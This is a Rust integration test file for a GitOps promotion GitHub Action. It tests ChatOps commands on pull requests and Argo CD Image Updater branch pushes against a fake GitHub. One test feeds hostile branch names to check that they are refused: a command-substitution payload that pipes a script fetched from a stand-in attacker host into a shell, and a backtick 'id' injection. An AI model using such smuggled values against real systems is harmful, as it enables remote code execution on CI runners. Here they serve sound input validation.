//! `gitops-promote action` on `issue_comment` (ChatOps on a PR) and on `push` to an Argo CD Image
//! Updater branch, against the loopback GitHub and a real git server. Payloads are shaped like
//! GitHub's documented webhooks.

mod common;
mod support;

use std::fs;
use std::path::PathBuf;

use common::GitRepo;
use serde_json::json;
use support::runner::{
    FetchDepth, REPO, Step, StepResult, TOKEN, checkout_like_actions, git, repository_json,
};
use support::{FakeGitHub, FakePull};
use tempfile::TempDir;

/// The open PR commands are typed on.
const OPEN_PR: u64 = 7;
/// A PR already merged into `develop`, for `/promote`.
const MERGED_PR: u64 = 8;
const APP_FILE: &str = "argocd/staging-web.yaml";
const APPLICATION: &str = "\
# Staging follows develop's images; /deploy-branch points it at a feature branch.
apiVersion: argoproj.io/v1alpha1
kind: Application
metadata:
  name: staging-web
  namespace: argocd
  annotations:
    argocd-image-updater.argoproj.io/image-list: web=nginx
    argocd-image-updater.argoproj.io/web.allow-tags: regexp:^develop-
    argocd-image-updater.argoproj.io/write-back-method: git
spec:
  project: default
  source:
    repoURL: https://github.com/acme/manifests.git
    path: overlays/staging
    targetRevision: develop
";

struct Chat {
    fake: FakeGitHub,
    repo: GitRepo,
    runner: TempDir,
    inputs: Vec<(String, String)>,
    depth: FetchDepth,
}

impl Chat {
    /// `develop` with the Application file, an open PR #7 from `feature-login` into `develop`,
    /// and PR #8 squash-merged into `develop`; served by the fake GitHub.
    fn new() -> Chat {
        Chat::with_target(APP_FILE, APPLICATION)
    }

    /// [`Chat::new`] with `content` at `path` as the `/deploy-branch` target.
    fn with_target(path: &str, content: &str) -> Chat {
        let repo = GitRepo::base_and_two_overlays_with(&[(path, content)]);
        let fake = FakeGitHub::start(TOKEN);

        // #8: merged into develop (squash), not yet in master.
        let before = repo.sha("develop");
        repo.edit(
            "overlays/production/kustomization.yaml",
            "count: 3",
            "count: 4",
        );
        let squash = repo.commit("Scale production to 4 (#8)");
        fake.add_commit_pull(REPO, &squash, MERGED_PR);

        // #7: open, from feature-login.
        repo.git(&["checkout", "-q", "-b", "feature-login"]);
        repo.edit(
            "overlays/staging/kustomization.yaml",
            "newTag: 1.25.0",
            "newTag: 1.26.0",
        );
        let head = repo.commit("staging: nginx 1.26.0");
        repo.checkout("develop");
        let develop = repo.sha("develop");
        repo.git(&["checkout", "-q", "--detach", "develop"]);
        repo.git(&[
            "merge",
            "-q",
            "--no-ff",
            "-m",
            "test merge",
            "feature-login",
        ]);
        let merge = repo.sha("HEAD");
        repo.checkout("develop");
        repo.git(&["update-ref", &format!("refs/pull/{OPEN_PR}/head"), &head]);
        repo.git(&["update-ref", &format!("refs/pull/{OPEN_PR}/merge"), &merge]);

        let runner = tempfile::Builder::new()
            .prefix("gitops-promote-runner-")
            .tempdir()
            .unwrap();
        git(
            runner.path(),
            &[
                "clone",
                "-q",
                "--mirror",
                &repo.path().to_string_lossy(),
                "served.git",
            ],
        );
        fake.add_repo(REPO, &runner.path().join("served.git"));
        fake.add_pull(
            REPO,
            FakePull {
                number: OPEN_PR,
                head_sha: head,
                head_ref: "feature-login".into(),
                base_ref: "develop".into(),
                base_sha: develop,
                merge_commit_sha: Some(merge),
                title: "Log-in page".into(),
                ..FakePull::default()
            },
        );
        fake.add_pull(
            REPO,
            FakePull {
                number: MERGED_PR,
                head_sha: squash.clone(),
                head_ref: "scale-production".into(),
                base_ref: "develop".into(),
                base_sha: before,
                merge_commit_sha: Some(squash),
                title: "Scale production to 4".into(),
                ..FakePull::default()
            },
        );
        fake.set_pull_merged(REPO, MERGED_PR, "2026-11-20T10:00:00Z");
        fake.set_permission(REPO, "maintainer", "write");
        fake.set_permission(REPO, "reader", "read");
        Chat {
            fake,
            repo,
            runner,
            inputs: vec![("deploy-branch-target".into(), path.into())],
            depth: FetchDepth::One,
        }
    }

    /// Runs as after `actions/checkout` with `fetch-depth: 0`.
    fn full_clone(mut self) -> Chat {
        self.depth = FetchDepth::Full;
        self
    }

    fn input(mut self, name: &str, value: &str) -> Chat {
        self.inputs.push((name.to_string(), value.to_string()));
        self
    }

    fn bare(&self) -> PathBuf {
        self.runner.path().join("served.git")
    }

    /// `login` writes `body` on PR `number`; returns the comment's id.
    fn comment(&self, number: u64, login: &str, body: &str) -> u64 {
        self.fake.add_comment(REPO, number, login, body)
    }

    /// Runs the workflow for comment `id` (as GitHub does for `issue_comment: created`, and
    /// again on a re-run).
    fn run_comment(&self, number: u64, id: u64, login: &str, body: &str) -> StepResult {
        let event = json!({
            "action": "created",
            "issue": {
                "url": format!("https://api.github.com/repos/{REPO}/issues/{number}"),
                "html_url": format!("https://github.com/{REPO}/pull/{number}"),
                "id": 1000 + number, "node_id": "I_kwDOA", "number": number,
                "title": "a PR", "state": "open", "locked": false,
                "user": {"login": "octocat", "id": 583231, "type": "User"},
                "pull_request": {
                    "url": format!("https://api.github.com/repos/{REPO}/pulls/{number}"),
                    "html_url": format!("https://github.com/{REPO}/pull/{number}"),
                    "diff_url": format!("https://github.com/{REPO}/pull/{number}.diff"),
                    "patch_url": format!("https://github.com/{REPO}/pull/{number}.patch"),
                    "merged_at": null
                },
                "body": "", "comments": 1
            },
            "comment": {
                "url": format!("https://api.github.com/repos/{REPO}/issues/comments/{id}"),
                "html_url": format!("https://github.com/{REPO}/pull/{number}#issuecomment-{id}"),
                "id": id, "node_id": "IC_kwDOA", "body": body,
                "user": {"login": login, "id": 99, "type": "User"},
                "author_association": "MEMBER",
                "created_at": "2026-11-27T10:00:00Z", "updated_at": "2026-11-27T10:00:00Z"
            },
            "repository": repository_json(),
            "sender": {"login": login, "id": 99, "type": "User"}
        });
        self.run_event("issue_comment", &event, "refs/heads/master")
    }

    fn run_event(&self, name: &str, event: &serde_json::Value, git_ref: &str) -> StepResult {
        fs::write(self.runner.path().join("event.json"), event.to_string()).unwrap();
        // A run for a deleted branch gets the default branch as its ref and sha, as GitHub does.
        let git_ref = if event["deleted"] == json!(true) {
            "refs/heads/master"
        } else {
            git_ref
        };
        let sha = git(&self.bare(), &["rev-parse", git_ref])
            .trim()
            .to_string();
        let workspace = checkout_like_actions(&self.fake, git_ref, &sha, self.depth);
        Step {
            fake: &self.fake,
            dir: self.runner.path(),
            workspace: workspace.path(),
            event_name: name,
            sha: &sha,
            git_ref: git_ref.into(),
            inputs: &self.inputs,
        }
        .run()
    }

    fn served(&self, rev: &str) -> String {
        git(&self.bare(), &["rev-parse", rev]).trim().to_string()
    }

    fn served_file(&self, rev: &str, path: &str) -> String {
        git(&self.bare(), &["show", &format!("{rev}:{path}")])
    }

    /// Our reply to command comment `id`.
    fn replies_to(&self, number: u64, id: u64) -> Vec<String> {
        let marker = format!("<!-- gitops-promote id=chatops-{id} ");
        self.fake
            .comments(REPO, number)
            .into_iter()
            .filter(|c| c.body.starts_with(&marker))
            .map(|c| c.body)
            .collect()
    }

    fn assert_no_violations(&self) {
        let violations = self.fake.violations();
        assert!(
            violations.is_empty(),
            "requests GitHub would not accept:\n{violations:#?}"
        );
    }
}

// ---------------------------------------------------------------------------------------------
// /deploy-branch
// ---------------------------------------------------------------------------------------------

#[test]
fn deploy_branch_commits_only_the_filter_and_a_re_run_commits_nothing_more() {
    let chat = Chat::new();
    let before = chat.served("develop");
    let body = "/deploy-branch feature-login";
    let id = chat.comment(OPEN_PR, "maintainer", body);

    let run = chat.run_comment(OPEN_PR, id, "maintainer", body).ok();

    let after = chat.served("develop");
    assert_ne!(before, after, "a commit was pushed to develop");
    assert_eq!(
        chat.served("develop~1"),
        before,
        "exactly one commit, on top"
    );
    assert_eq!(
        chat.served_file("develop", APP_FILE),
        APPLICATION.replace(
            "web.allow-tags: regexp:^develop-",
            "web.allow-tags: regexp:^feature-login-"
        ),
        "only the filter changed, comments and layout kept"
    );
    let changed = git(&chat.bare(), &["diff", "--name-only", &before, &after]);
    assert_eq!(changed.trim(), APP_FILE);
    let message = git(&chat.bare(), &["log", "-1", "--format=%B%n%cn", "develop"]);
    assert!(message.contains("Requested by @maintainer with `/deploy-branch feature-login`"));
    assert!(message.contains(&format!("GitOps-Promote-Request: comment {id}")));
    assert!(
        message.trim_end().ends_with("github-actions[bot]"),
        "{message}"
    );

    let replies = chat.replies_to(OPEN_PR, id);
    assert_eq!(replies.len(), 1, "{replies:#?}");
    assert!(replies[0].contains("@maintainer `/deploy-branch feature-login`: committed"));
    assert!(
        replies[0].contains(
            "Application staging-web: annotation argocd-image-updater.argoproj.io/web.allow-tags \
         (line 9): `regexp:^develop-` → `regexp:^feature-login-`"
        ),
        "{}",
        replies[0]
    );
    assert_eq!(chat.fake.reactions(REPO, id), ["eyes", "rocket"]);
    let printed = format!("{}\n{}", run.stdout, run.stderr);
    assert!(
        printed
            .lines()
            .filter(|l| !l.starts_with("::add-mask::"))
            .all(|l| !l.contains(TOKEN)),
        "the token is only ever masked"
    );

    // The same workflow run again (re-run): found by its trailer, nothing new.
    chat.run_comment(OPEN_PR, id, "maintainer", body).ok();
    assert_eq!(chat.served("develop"), after, "no second commit");
    let replies = chat.replies_to(OPEN_PR, id);
    assert_eq!(replies.len(), 1, "the reply is edited, not repeated");
    assert!(replies[0].contains("already done by"), "{}", replies[0]);
    chat.assert_no_violations();
}

#[test]
fn deploy_branch_reset_restores_the_default_and_without_a_name_uses_the_pr_branch() {
    let chat = Chat::new();
    let body = "/deploy-branch";
    let id = chat.comment(OPEN_PR, "maintainer", body);
    chat.run_comment(OPEN_PR, id, "maintainer", body).ok();
    assert!(
        chat.served_file("develop", APP_FILE)
            .contains("web.allow-tags: regexp:^feature-login-\n")
    );

    let reset = "/deploy-branch reset";
    let id = chat.comment(OPEN_PR, "maintainer", reset);
    chat.run_comment(OPEN_PR, id, "maintainer", reset).ok();
    assert_eq!(chat.served_file("develop", APP_FILE), APPLICATION);
    let message = git(&chat.bare(), &["log", "-1", "--format=%s", "develop"]);
    assert_eq!(
        message.trim(),
        "Reset the Image Updater tag filter to regexp:^develop-"
    );

    // Already at the default: a new reset commits nothing and says so.
    let tip = chat.served("develop");
    let again = chat.comment(OPEN_PR, "maintainer", reset);
    chat.run_comment(OPEN_PR, again, "maintainer", reset).ok();
    assert_eq!(chat.served("develop"), tip);
    assert!(chat.replies_to(OPEN_PR, again)[0].contains("already allows `regexp:^develop-`"));
    chat.assert_no_violations();
}

#[test]
fn deploy_branch_edits_an_image_updater_resource_too() {
    let file = "argocd/image-updater.yaml";
    let updater = "\
apiVersion: argocd-image-updater.argoproj.io/v1alpha1
kind: ImageUpdater
metadata:
  name: staging
  namespace: argocd
spec:
  commonUpdateSettings:
    allowTags: \"regexp:^develop-\"   # what staging deploys
  applicationRefs:
    - namePattern: staging-*
      images:
        - alias: web
          imageName: nginx
";
    let chat = Chat::with_target(file, updater);
    let body = "/deploy-branch hotfix-2";
    let id = chat.comment(OPEN_PR, "maintainer", body);
    let run = chat.run_comment(OPEN_PR, id, "maintainer", body).ok();
    assert_eq!(
        chat.served_file("develop", file),
        updater.replace("\"regexp:^develop-\"", "\"regexp:^hotfix-2-\"")
    );
    assert!(
        chat.replies_to(OPEN_PR, id)[0]
            .contains("ImageUpdater staging: spec.commonUpdateSettings.allowTags"),
        "{}",
        chat.replies_to(OPEN_PR, id)[0]
    );
    assert!(run.summary.contains("## ChatOps on #7"), "{}", run.summary);
    chat.assert_no_violations();
}

#[test]
fn a_user_without_write_access_changes_nothing_and_is_told_why() {
    let chat = Chat::new();
    let before = chat.served("develop");
    for (login, access) in [("reader", "read"), ("drive-by", "none")] {
        let body = "/deploy-branch feature-login";
        let id = chat.comment(OPEN_PR, login, body);
        chat.run_comment(OPEN_PR, id, login, body).ok();
        let replies = chat.replies_to(OPEN_PR, id);
        assert_eq!(replies.len(), 1);
        assert!(
            replies[0].contains(&format!(
                "@{login} only people with write or admin access to this repository can run \
                 gitops-promote commands (you have {access} access)"
            )),
            "{}",
            replies[0]
        );
        assert_eq!(chat.fake.reactions(REPO, id), ["eyes", "-1"]);
    }
    assert_eq!(chat.served("develop"), before);
    assert!(
        chat.fake.pulls(REPO).iter().all(|p| p.base_ref != "master"),
        "nothing promoted"
    );
    chat.assert_no_violations();
}

#[test]
fn hostile_branch_names_are_refused_and_nothing_is_committed() {
    let chat = Chat::new();
    let before = chat.served("develop");
    for (name, why) in [
        ("$(curl${IFS}evil.example|sh)", "'$'"),
        ("`id`", "a backtick"),
        (".*", "'*'"),
        (".hidden", "start"),
        ("feature/login", "use `/deploy-branch feature-login`"),
        (&"a".repeat(101), "at most 100"),
    ] {
        let body = format!("/deploy-branch {name}");
        let id = chat.comment(OPEN_PR, "maintainer", &body);
        chat.run_comment(OPEN_PR, id, "maintainer", &body).ok();
        let reply = &chat.replies_to(OPEN_PR, id)[0];
        assert!(reply.contains("refused:"), "{name}: {reply}");
        assert!(reply.contains(why), "{name}: {reply}");
        assert!(reply.contains("Nothing was changed."), "{reply}");
        assert_eq!(chat.fake.reactions(REPO, id), ["eyes", "confused"]);
    }
    assert_eq!(chat.served("develop"), before);
    // A name needing regex escaping is allowed, and escaped.
    let body = "/deploy-branch release-1.2";
    let id = chat.comment(OPEN_PR, "maintainer", body);
    chat.run_comment(OPEN_PR, id, "maintainer", body).ok();
    assert!(
        chat.served_file("develop", APP_FILE)
            .contains("web.allow-tags: regexp:^release-1\\.2-\n")
    );
    chat.assert_no_violations();
}

#[test]
fn without_a_target_file_deploy_branch_fails_with_the_input_named() {
    let mut chat = Chat::new();
    chat.inputs.clear();
    let body = "/deploy-branch feature-login";
    let id = chat.comment(OPEN_PR, "maintainer", body);
    let run = chat.run_comment(OPEN_PR, id, "maintainer", body);
    assert_eq!(run.code, 1, "{}", run.stdout);
    assert!(chat.replies_to(OPEN_PR, id)[0].contains("`deploy-branch-target`"));
}

// ---------------------------------------------------------------------------------------------
// /diff and /promote
// ---------------------------------------------------------------------------------------------

#[test]
fn diff_re_renders_the_pr_and_links_the_sticky_comment() {
    for full in [false, true] {
        diff_re_renders(if full {
            Chat::new().full_clone()
        } else {
            Chat::new()
        });
    }
}

/// `/diff` runs from a checkout of the default branch, so the PR's refs are all fetched by the
/// tool: it must still find and compare the test merge.
fn diff_re_renders(chat: Chat) {
    let id = chat.comment(OPEN_PR, "maintainer", "/diff");
    let run = chat.run_comment(OPEN_PR, id, "maintainer", "/diff").ok();

    let sticky: Vec<String> = chat
        .fake
        .comments(REPO, OPEN_PR)
        .into_iter()
        .map(|c| c.body)
        .filter(|b| b.starts_with("<!-- gitops-promote id=default "))
        .collect();
    assert_eq!(sticky.len(), 1, "{sticky:#?}");
    assert!(
        sticky[0].contains("- `overlays/staging`: `nginx: 1.25.0 → 1.26.0`"),
        "{}",
        sticky[0]
    );
    let merge = chat.served(&format!("refs/pull/{OPEN_PR}/merge"));
    let develop = chat.served("develop");
    let compared = format!(
        "Compared `develop` (`{}`) with `#{OPEN_PR} merged into develop` (`{}`).",
        &develop[..7],
        &merge[..7]
    );
    assert!(sticky[0].contains(&compared), "{}", sticky[0]);
    let url = run.output("comment-url");
    assert!(!url.is_empty());
    assert!(chat.replies_to(OPEN_PR, id)[0].contains("rendered `"));
    assert!(chat.replies_to(OPEN_PR, id)[0].contains(url));
    assert_eq!(chat.fake.reactions(REPO, id), ["eyes", "rocket"]);
    chat.assert_no_violations();
}

#[test]
fn promote_opens_the_production_pr_of_a_merged_pr_and_refuses_an_open_one() {
    let chat = Chat::new();
    let id = chat.comment(MERGED_PR, "maintainer", "/promote");
    let run = chat
        .run_comment(MERGED_PR, id, "maintainer", "/promote")
        .ok();
    let promotions: Vec<FakePull> = chat
        .fake
        .pulls(REPO)
        .into_iter()
        .filter(|p| p.base_ref == "master")
        .collect();
    assert_eq!(promotions.len(), 1, "{promotions:#?}");
    assert_eq!(
        promotions[0].head_ref,
        format!("promote/master/pr-{MERGED_PR}")
    );
    assert!(
        run.output("promotion-prs")
            .contains(&format!("\"source\":{MERGED_PR}"))
    );
    assert!(chat.replies_to(MERGED_PR, id)[0].contains("`/promote`: promoted in"));

    let id = chat.comment(OPEN_PR, "maintainer", "/promote");
    let run = chat.run_comment(OPEN_PR, id, "maintainer", "/promote");
    assert_eq!(run.code, 1);
    assert!(chat.replies_to(OPEN_PR, id)[0].contains("is not merged"));
    assert_eq!(chat.fake.reactions(REPO, id), ["eyes", "confused"]);

    // The promotion PR itself went to master: promoting it again makes no sense.
    let promotion = promotions[0].number;
    chat.fake
        .set_pull_merged(REPO, promotion, "2026-11-27T11:00:00Z");
    let id = chat.comment(promotion, "maintainer", "/promote");
    let run = chat.run_comment(promotion, id, "maintainer", "/promote");
    assert_eq!(run.code, 1);
    let reply = &chat.replies_to(promotion, id)[0];
    assert!(
        reply.contains("was merged into master, not develop"),
        "{reply}"
    );
    chat.assert_no_violations();
}

#[test]
fn comments_that_are_not_commands_or_not_new_do_nothing() {
    let chat = Chat::new();
    let quoted = "LGTM, /promote after lunch";
    let id = chat.comment(MERGED_PR, "maintainer", quoted);
    let run = chat.run_comment(MERGED_PR, id, "maintainer", quoted).ok();
    assert!(
        run.stdout.contains("holds no gitops-promote command"),
        "{}",
        run.stdout
    );
    assert!(chat.fake.reactions(REPO, id).is_empty());

    // An edit re-sends the comment with action "edited"; only new comments run commands.
    let id = chat.comment(MERGED_PR, "maintainer", "/promote");
    let event = json!({
        "action": "edited",
        "changes": {"body": {"from": "/promot"}},
        "issue": {"number": MERGED_PR, "pull_request": {
            "url": format!("https://api.github.com/repos/{REPO}/pulls/{MERGED_PR}"),
            "html_url": format!("https://github.com/{REPO}/pull/{MERGED_PR}")}},
        "comment": {"id": id, "body": "/promote", "user": {"login": "maintainer"}},
        "repository": repository_json(),
    });
    chat.run_event("issue_comment", &event, "refs/heads/master")
        .ok();
    assert!(chat.fake.reactions(REPO, id).is_empty());
    assert!(chat.replies_to(MERGED_PR, id).is_empty());
    assert!(chat.fake.pulls(REPO).iter().all(|p| p.base_ref != "master"));
}

// ---------------------------------------------------------------------------------------------
// Image Updater branches
// ---------------------------------------------------------------------------------------------

/// Argo CD Image Updater's git write-back to its own branch: one commit of its override file.
fn image_updater_push(chat: &Chat, branch: &str, tag: &str) -> StepResult {
    let repo = &chat.repo;
    repo.checkout("develop");
    if repo.git(&["branch", "--list", branch]).trim().is_empty() {
        repo.git(&["checkout", "-q", "-b", branch, "master"]);
    } else {
        repo.checkout(branch);
    }
    let before = repo.sha("HEAD");
    repo.write(
        "overlays/production/.argocd-source-production-web.yaml",
        &format!("kustomize:\n  images:\n  - nginx:{tag}\n"),
    );
    let after = repo.commit(&format!("build: automatic update of nginx to {tag}"));
    repo.checkout("develop");
    git(
        &chat.bare(),
        &[
            "fetch",
            "-q",
            &chat.repo.path().to_string_lossy(),
            &format!("+refs/heads/{branch}:refs/heads/{branch}"),
        ],
    );
    // GitHub moves an open PR's head with its branch.
    for pr in chat.fake.pulls(REPO) {
        if pr.head_ref == branch && pr.state == "open" {
            chat.fake.set_pull_head(REPO, pr.number, &after);
        }
    }
    let event = json!({
        "ref": format!("refs/heads/{branch}"), "before": before, "after": after,
        "created": false, "deleted": false, "forced": false, "base_ref": null,
        "compare": "https://github.com/acme/manifests/compare/a...b",
        "commits": [], "head_commit": {"id": after, "message": "update", "timestamp": "2026-11-27T10:00:00Z"},
        "repository": repository_json(),
        "pusher": {"name": "argocd-image-updater", "email": "noreply@argoproj.io"},
        "sender": {"login": "argocd-image-updater", "id": 5, "type": "User"}
    });
    chat.run_event("push", &event, &format!("refs/heads/{branch}"))
}

#[test]
fn an_image_updater_branch_gets_one_pr_with_the_image_in_its_title_and_the_diff() {
    let chat = Chat::new().input("image-update-branches", "image-updater-*");
    let run = image_updater_push(&chat, "image-updater-web", "1.24.1").ok();

    let pulls: Vec<FakePull> = chat
        .fake
        .pulls(REPO)
        .into_iter()
        .filter(|p| p.head_ref == "image-updater-web")
        .collect();
    assert_eq!(pulls.len(), 1, "{pulls:#?}");
    let pr = &pulls[0];
    assert_eq!(pr.base_ref, "master");
    assert_eq!(pr.title, "Image update: nginx: 1.24.0 → 1.24.1");
    let body = pr.body.clone().unwrap();
    assert!(
        body.contains("- `overlays/production`: `nginx: 1.24.0 → 1.24.1`"),
        "{body}"
    );
    assert!(
        run.output("image-update-pr")
            .ends_with(&format!("/pull/{}", pr.number))
    );
    assert_eq!(
        serde_json::from_str::<serde_json::Value>(run.output("image-changes")).unwrap(),
        json!([{"overlay": "overlays/production", "image": "nginx",
                "old": "nginx:1.24.0", "new": "nginx:1.24.1"}])
    );
    let comments = chat.fake.comments(REPO, pr.number);
    assert_eq!(comments.len(), 1);
    let diff = &comments[0].body;
    assert!(diff.contains("\n-        image: nginx:1.24.0\n"), "{diff}");
    assert!(diff.contains("\n+        image: nginx:1.24.1\n"), "{diff}");
    assert!(diff.contains("Rendered with Argo CD overrides from `overlays/production/.argocd-source-production-web.yaml`"), "{diff}");

    // Image Updater pushes again: the same PR is updated, its comment edited in place.
    image_updater_push(&chat, "image-updater-web", "1.24.2").ok();
    let pulls: Vec<FakePull> = chat
        .fake
        .pulls(REPO)
        .into_iter()
        .filter(|p| p.head_ref == "image-updater-web")
        .collect();
    assert_eq!(pulls.len(), 1);
    assert_eq!(pulls[0].title, "Image update: nginx: 1.24.0 → 1.24.2");
    let comments = chat.fake.comments(REPO, pr.number);
    assert_eq!(comments.len(), 1);
    assert!(comments[0].body.contains("nginx:1.24.2"));
    chat.assert_no_violations();
}

#[test]
fn a_push_to_a_branch_that_matches_nothing_opens_no_pr() {
    let chat = Chat::new().input("image-update-branches", "image-updater-*");
    let run = image_updater_push(&chat, "renovate-nginx", "1.24.1").ok();
    assert!(run.stdout.contains("nothing to do"), "{}", run.stdout);
    assert!(
        chat.fake
            .pulls(REPO)
            .iter()
            .all(|p| p.head_ref != "renovate-nginx")
    );
}

#[test]
fn deleting_a_branch_promotes_nothing_and_opens_nothing() {
    let chat = Chat::new().input("image-update-branches", "image-updater-*");
    for branch in ["develop", "image-updater-web"] {
        let event = json!({
            "ref": format!("refs/heads/{branch}"),
            "before": chat.served("develop"), "after": "0".repeat(40),
            "created": false, "deleted": true, "forced": false, "base_ref": null,
            "compare": "https://github.com/acme/manifests/compare/a...b",
            "commits": [], "head_commit": null,
            "repository": repository_json(),
            "pusher": {"name": "octocat", "email": "octocat@example.com"},
            "sender": {"login": "octocat", "id": 583231, "type": "User"}
        });
        let run = chat
            .run_event("push", &event, &format!("refs/heads/{branch}"))
            .ok();
        assert!(
            run.stdout.contains("was deleted; nothing to do"),
            "{}",
            run.stdout
        );
    }
    assert_eq!(chat.fake.pulls(REPO).len(), 2, "only the fixture's PRs");
    chat.assert_no_violations();
}
